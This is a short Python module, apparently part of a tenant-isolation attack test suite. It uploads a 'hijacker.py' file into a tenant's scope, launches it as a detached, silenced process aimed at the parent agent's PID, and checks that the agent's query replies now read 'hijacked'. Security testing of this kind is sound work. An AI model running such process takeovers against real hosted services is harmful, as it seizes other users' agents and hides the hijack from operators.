"""Making a scope of the attacker's own a hostile agent, by means that every tenant has."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Final

from control.attacks.people import NotPlayed, Tenant

SOURCE: Final = Path(__file__).with_name("hijacker.py")
LAUNCH: Final = """
import os, subprocess, sys
subprocess.Popen(
    [sys.executable, "/scope/files/hijacker.py", str(os.getppid())],
    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
"""
KEPT_CONNECTIONS: Final = 4
"""To the stopped agent there are some: each is used up by a request that it never answers."""
ROUNDS: Final = 5


async def hijack(tenant: Tenant) -> Tenant:
    """The same scope, whose agent is ours now; raises NotPlayed where it is not."""
    sent = await tenant.files("PUT", "hijacker.py", SOURCE.read_bytes())
    if sent.status != 200:
        raise NotPlayed(f"the hijacker was not taken: {sent.brief()}")  # noqa: EM102
    await tenant.value(LAUNCH)
    await asyncio.sleep(1.5)  # until it has stopped the agent, which nothing of ours can see
    for _ in range(ROUNDS):
        answers = await asyncio.gather(*(_asked(tenant) for _ in range(KEPT_CONNECTIONS)))
        if all("hijacked" in answer for answer in answers):
            return tenant
    raise NotPlayed(f"the agent still answers: {answers}")  # noqa: EM102


async def _asked(tenant: Tenant) -> str:
    wanted = {"scope": tenant.scope, "sql": "select 1", "timeout": 0.05}
    return (await tenant.person.ask("POST", "/query", wanted)).text
